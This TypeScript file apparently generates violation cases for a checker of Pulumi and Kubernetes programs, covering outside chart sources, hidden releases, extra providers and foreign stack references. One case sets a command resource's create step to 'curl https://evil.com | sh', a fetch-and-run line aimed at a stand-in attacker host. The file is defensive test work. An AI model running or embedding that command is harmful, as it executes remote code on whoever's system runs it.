import type { Way } from "../attack";
import type { Random } from "../random";
import { outsideHost, outsideName, outsideUrl } from "./making/hosts";
import { newName } from "./making/names";
import { programWay, resource } from "./making/programs";

const CHARTS = [
  "kubernetes:helm.sh/v3:Chart",
  "kubernetes:helm.sh/v4:Chart",
  "kubernetes:helm.sh/v3:Release",
];

const chart = (random: Random, props: object) =>
  resource(random.pick(CHARTS), newName(random), { props });

const objectUnder = (parent: string) =>
  resource("kubernetes:core/v1:ConfigMap", "part", {
    parent,
    props: { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "part", namespace: "x" } },
  });

const RENDERERS = [
  "kubernetes:helm.sh/v3:Chart",
  "kubernetes:helm.sh/v4:Chart",
  "kubernetes:yaml:ConfigGroup",
  "kubernetes:yaml/v2:ConfigGroup",
  "kubernetes:yaml/v2:ConfigFile",
  "kubernetes:kustomize:Directory",
  "kubernetes:kustomize/v2:Directory",
];

/** Ways 126 to 128 and 132 to 134: what a program registers. */
export const PROGRAM: readonly Way[] = [
  programWay(126, "charts-are-vendored", "a chart from elsewhere", [
    (random) =>
      chart(random, {
        chart: "istiod",
        version: "1.30.3",
        repositoryOpts: { repo: outsideUrl(random) },
      }),
    (random) => chart(random, { chart: `oci://${outsideHost(random)}/charts/istiod` }),
    (random) => chart(random, { chart: `https://${outsideName(random)}/istiod-1.30.3.tgz` }),
    (random) => chart(random, { chart: "bitnami/redis", fetchOpts: { repo: outsideUrl(random) } }),
    (random) => chart(random, { chart: random.pick(["../../tmp/istiod", "/tmp/istiod.tgz"]) }),
  ]),
  programWay(127, "charts-render", "a release that hides what it makes", [
    (random) =>
      resource("kubernetes:helm.sh/v3:Release", newName(random), {
        hidden: {
          message: random.pick(["its values are unknown", "its archive is not locked"]),
          remedy: "Give it plain values.",
        },
      }),
  ]),
  programWay(128, "charts-render", "a chart that shows no object", [
    (random) => resource(random.pick(RENDERERS), newName(random)),
    (random) => {
      const empty = resource(random.pick(RENDERERS), newName(random));
      return [empty, resource("my:components:Part", "part", { parent: empty.urn })];
    },
    (random) => {
      const full = resource("kubernetes:helm.sh/v4:Chart", "full");
      return [
        resource(random.pick(RENDERERS), newName(random), { parent: full.urn }),
        full,
        objectUnder(full.urn),
      ];
    },
  ]),
  programWay(132, "program-runs-nothing", "a resource that runs something", [
    (random) =>
      resource(
        random.pick([
          "command:local:Command",
          "command:remote:Command",
          "command:local:run",
          "command:remote:CopyFile",
          "pulumi-nodejs:dynamic:Resource",
          "pulumi-nodejs:dynamic/x:Resource",
          "pulumi-python:dynamic:Resource",
          "null:index/resource:Resource",
          "local:index/file:File",
          "external:index:Program",
          "docker-build:index:Image",
        ]),
        newName(random),
        { props: { create: "curl https://evil.com | sh" } },
      ),
  ]),
  programWay(133, "providers-are-listed", "another provider", [
    (random) =>
      resource(
        random.pick([
          "aws:s3/bucket:Bucket",
          "gcp:storage/bucket:Bucket",
          "github:index/repository:Repository",
          "http:index/getHttp:getHttp",
          "cloudflare:index/record:Record",
          "vault:kv/secretV2:SecretV2",
          "Kubernetes:core/v1:Pod",
          "kubernetes-extra:core/v1:Pod",
          "terraform-provider:index:Anything",
        ]),
        newName(random),
      ),
    (random) =>
      resource(
        `pulumi:providers:${random.pick(["aws", "gcp", "azure-native", "github", "http", "dns"])}`,
        newName(random),
      ),
    (random) =>
      resource("pulumi:providers:kubernetes", newName(random), {
        props: { context: "prod", pluginDownloadURL: outsideUrl(random) },
      }),
    (random) =>
      resource("pulumi:providers:kubernetes", newName(random), {
        props: {
          context: "prod",
          ...random.pick([
            { renderYamlToDirectory: "/tmp/out" },
            { namespace: "financial-inference" },
          ]),
        },
      }),
  ]),
  programWay(134, "stack-references-stay-here", "a stack of somebody else", [
    (random) => {
      const name = random.pick([
        "acme/network/prod",
        "organization/other-project/prod",
        "acme/seldon-platform/prod",
        `${random.word()}/${random.word()}/${random.word()}`,
      ]);
      return resource("pulumi:pulumi:StackReference", newName(random), { props: { name } });
    },
    (random) =>
      resource("pulumi:pulumi:StackReference", "acme/network/prod", {
        props: random.maybe() ? {} : { name: "acme/network/prod" },
      }),
  ]),
];
